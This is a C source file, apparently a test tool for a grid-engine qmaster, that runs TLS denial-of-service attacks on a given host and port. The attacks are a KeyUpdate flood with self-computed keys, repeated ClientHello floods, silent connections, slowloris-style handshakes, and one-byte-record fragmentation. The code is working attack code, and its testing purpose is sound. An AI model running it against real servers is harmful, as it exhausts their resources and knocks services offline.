/* attack_tls ACT HOST PORT SECONDS ... - what a peer without a certificate does at a qmaster's port
 * for as long as SECONDS say; prints what has come of it.
 *
 *   updates              one connection for joining, which changes its keys (KeyUpdate) as fast as
 *                        the other end takes it; again when it is ended. The keys are its own work,
 *                        so that they cost it less than the other end.
 *   hellos COUNT GROUP   the same ClientHello again and again, over COUNT connections at a time
 *   silent COUNT         COUNT connections that say nothing; those that end are made again
 *   slow COUNT           the same, but each sends one byte of a ClientHello in a tenth of a second
 *   fragments COUNT      the same, and each sends its ClientHello in records of one byte */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include "libs/uti/alloc.h"
#include "libs/uti/time.h"

enum { SECRET_BYTES = 32, KEY_BYTES = 16, IV_BYTES = 12, RECORD_BYTES = 27, BATCH = 4096 };
enum { HELLO_BYTES = 4096, US_OF_S = 1000000, SLOW_US = 100000, POLL_MS = 20 };

static struct sockaddr_in target;
static uint8_t secret[SECRET_BYTES]; /* of what the client sends */

static void fail_with(const char *what)
{
    perror(what);
    exit(1);
}

static int connect_socket(bool is_blocking)
{
    int fd = socket(AF_INET, SOCK_STREAM | (is_blocking ? 0 : SOCK_NONBLOCK), 0);
    if (fd < 0)
        fail_with("socket");
    if (connect(fd, (struct sockaddr *)&target, sizeof target) != 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

/* ---- key updates ---- */

static void note_secret(const SSL *ssl, const char *line)
{
    static const char label[] = "CLIENT_TRAFFIC_SECRET_0 ";
    (void)ssl;
    if (strncmp(line, label, sizeof label - 1) != 0)
        return;
    const char *hex = strrchr(line, ' ') + 1;
    for (int i = 0; i < SECRET_BYTES; i++) {
        char two[3] = { hex[2 * i], hex[2 * i + 1] };
        secret[i] = (uint8_t)strtoul(two, NULL, 16);
    }
}

/* HKDF-Expand-Label of RFC 8446, for no more than one hash */
static void expand_label(const char *label, uint8_t len, uint8_t *out)
{
    uint8_t text[64], hash[SECRET_BYTES];
    size_t n = 0, length = strlen(label);
    text[n++] = 0;
    text[n++] = len;
    text[n++] = (uint8_t)(6 + length);
    memcpy(text + n, "tls13 ", 6);
    memcpy(text + n + 6, label, length);
    n += 6 + length;
    text[n++] = 0;
    text[n++] = 1;
    HMAC(EVP_sha256(), secret, SECRET_BYTES, text, n, hash, NULL);
    memcpy(out, hash, len);
}

/* a KeyUpdate under the present secret, which is followed by the next one */
static void make_update(EVP_CIPHER_CTX *cipher, uint8_t *record)
{
    static const uint8_t header[5] = { 0x17, 3, 3, 0, 22 }, message[6] = { 24, 0, 0, 1, 0, 22 };
    uint8_t key[KEY_BYTES], iv[IV_BYTES], next[SECRET_BYTES];
    int len;
    expand_label("key", KEY_BYTES, key);
    expand_label("iv", IV_BYTES, iv);
    memcpy(record, header, sizeof header);
    EVP_EncryptInit_ex(cipher, NULL, NULL, key, iv);
    EVP_EncryptUpdate(cipher, NULL, &len, header, sizeof header);
    EVP_EncryptUpdate(cipher, record + 5, &len, message, sizeof message);
    EVP_EncryptFinal_ex(cipher, record + 11, &len);
    EVP_CIPHER_CTX_ctrl(cipher, EVP_CTRL_AEAD_GET_TAG, 16, record + 11);
    expand_label("traffic upd", SECRET_BYTES, next);
    memcpy(secret, next, SECRET_BYTES);
}

/* one connection; returns how many updates were sent */
static long send_updates(SSL_CTX *ctx, EVP_CIPHER_CTX *cipher, uint64_t end_us)
{
    static uint8_t batch[RECORD_BYTES * BATCH];
    long n = 0;
    int fd = connect_socket(true);
    SSL *ssl = SSL_new(ctx);
    SSL_set_fd(ssl, fd);
    bool is_open = fd >= 0 && SSL_connect(ssl) == 1;
    while (is_open && uti_mono_us() < end_us) {
        for (int i = 0; i < BATCH; i++)
            make_update(cipher, batch + RECORD_BYTES * i);
        for (size_t at = 0; is_open && at < sizeof batch;) {
            ssize_t sent = send(fd, batch + at, sizeof batch - at, MSG_NOSIGNAL);
            is_open = sent > 0;
            at += is_open ? (size_t)sent : 0;
        }
        n += BATCH;
    }
    SSL_free(ssl);
    close(fd);
    return n;
}

static void flood_updates(uint64_t end_us)
{
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    EVP_CIPHER_CTX *cipher = EVP_CIPHER_CTX_new();
    long updates = 0, times = 0;
    SSL_CTX_set_ciphersuites(ctx, "TLS_AES_128_GCM_SHA256");
    SSL_CTX_set_keylog_callback(ctx, note_secret);
    SSL_CTX_set_alpn_protos(ctx, (const uint8_t *)"\x08sge-join", 9);
    EVP_EncryptInit_ex(cipher, EVP_aes_128_gcm(), NULL, NULL, NULL);
    for (; uti_mono_us() < end_us; times++)
        updates += send_updates(ctx, cipher, end_us);
    printf("%ld updates over %ld connections\n", updates, times);
    EVP_CIPHER_CTX_free(cipher);
    SSL_CTX_free(ctx);
}

/* ---- many connections ---- */

struct peer {
    size_t sent;
    uint64_t next_us; /* when it sends on */
};
struct crowd {
    const uint8_t *bytes; /* what each has to say */
    size_t n_bytes, step; /* and how much of it at a time */
    uint64_t pause_us;    /* between two steps */
    int n;
    struct pollfd *fds;
    struct peer *peers;
    long made;
};

static void come_again(struct crowd *c, int i)
{
    if (c->fds[i].fd >= 0)
        close(c->fds[i].fd);
    c->fds[i] = (struct pollfd){ connect_socket(false), POLLIN, 0 };
    c->peers[i] = (struct peer){ 0, uti_mono_us() };
    if (c->n_bytes > 0)
        c->fds[i].events |= POLLOUT;
    c->made++;
}

static void say_more(struct crowd *c, int i, uint64_t now_us)
{
    struct peer *p = &c->peers[i];
    size_t left = c->n_bytes - p->sent, n = left < c->step ? left : c->step;
    ssize_t sent = send(c->fds[i].fd, c->bytes + p->sent, n, MSG_NOSIGNAL);
    p->sent += sent > 0 ? (size_t)sent : 0;
    p->next_us = now_us + c->pause_us;
    if (p->sent == c->n_bytes)
        c->fds[i].events = POLLIN;
}

static void look_at_peer(struct crowd *c, int i, uint64_t now_us)
{
    short what = c->fds[i].revents;
    if (c->fds[i].fd < 0 || (what & (POLLERR | POLLHUP)) != 0 || (what & POLLIN) != 0)
        come_again(c, i); /* it was ended, or answered */
    else if ((what & POLLOUT) != 0 && c->peers[i].next_us <= now_us)
        say_more(c, i, now_us);
}

static void run_crowd(struct crowd *c, int n, uint64_t end_us)
{
    c->n = n;
    c->fds = uti_calloc((size_t)n, sizeof *c->fds);
    c->peers = uti_calloc((size_t)n, sizeof *c->peers);
    for (int i = 0; i < n; i++) {
        c->fds[i].fd = -1;
        come_again(c, i);
    }
    puts("ready");
    fflush(stdout);
    for (uint64_t now_us; (now_us = uti_mono_us()) < end_us;) {
        if (poll(c->fds, (nfds_t)n, POLL_MS) < 0)
            fail_with("poll");
        for (int i = 0; i < n; i++)
            look_at_peer(c, i, now_us);
        if (c->pause_us > 0)
            usleep(POLL_MS * 1000);
    }
    printf("%ld connections\n", c->made);
    free(c->fds);
    free(c->peers);
}

/* ---- a ClientHello ---- */

static size_t make_hello(const char *group, uint8_t *out)
{
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    SSL_CTX_set_min_proto_version(ctx, TLS1_3_VERSION);
    if (SSL_CTX_set1_groups_list(ctx, group) != 1)
        fail_with(group);
    SSL_CTX_set_alpn_protos(ctx, (const uint8_t *)"\x08sge-join", 9);
    SSL *ssl = SSL_new(ctx);
    BIO *in = BIO_new(BIO_s_mem()), *to = BIO_new(BIO_s_mem());
    SSL_set_bio(ssl, in, to);
    (void)SSL_connect(ssl);
    int n = BIO_read(to, out, HELLO_BYTES);
    SSL_free(ssl);
    SSL_CTX_free(ctx);
    return n > 0 ? (size_t)n : 0;
}

/* the message of a record of N bytes, in records of a byte each; returns their bytes */
static size_t cut_hello(const uint8_t *hello, size_t n, uint8_t *out)
{
    size_t at = 0;
    for (size_t i = 5; i < n; i++) {
        memcpy(out + at, (const uint8_t[]){ 22, 3, 1, 0, 1, hello[i] }, 6);
        at += 6;
    }
    return at;
}

int main(int argc, char **argv)
{
    static uint8_t hello[HELLO_BYTES], pieces[6 * HELLO_BYTES];
    struct rlimit most;
    if (argc < 5)
        return 2;
    signal(SIGPIPE, SIG_IGN);
    getrlimit(RLIMIT_NOFILE, &most);
    most.rlim_cur = most.rlim_max;
    setrlimit(RLIMIT_NOFILE, &most);
    target.sin_family = AF_INET;
    target.sin_port = htons((uint16_t)strtoul(argv[3], NULL, 10));
    inet_pton(AF_INET, argv[2], &target.sin_addr);
    uint64_t end_us = uti_mono_us() + strtoul(argv[4], NULL, 10) * US_OF_S;
    int n = argc > 5 ? (int)strtol(argv[5], NULL, 10) : 0;
    size_t len = make_hello(argc > 6 ? argv[6] : "X25519", hello);
    struct crowd c = { .bytes = hello, .n_bytes = len, .step = len };
    if (strcmp(argv[1], "updates") == 0) {
        flood_updates(end_us);
        return 0;
    }
    if (strcmp(argv[1], "silent") == 0)
        c = (struct crowd){ .pause_us = SLOW_US };
    if (strcmp(argv[1], "slow") == 0)
        c = (struct crowd){ .bytes = hello, .n_bytes = len, .step = 1, .pause_us = SLOW_US };
    if (strcmp(argv[1], "fragments") == 0)
        c = (struct crowd){ .bytes = pieces,
                            .n_bytes = cut_hello(hello, len, pieces),
                            .step = sizeof pieces };
    run_crowd(&c, n, end_us);
    return 0;
}
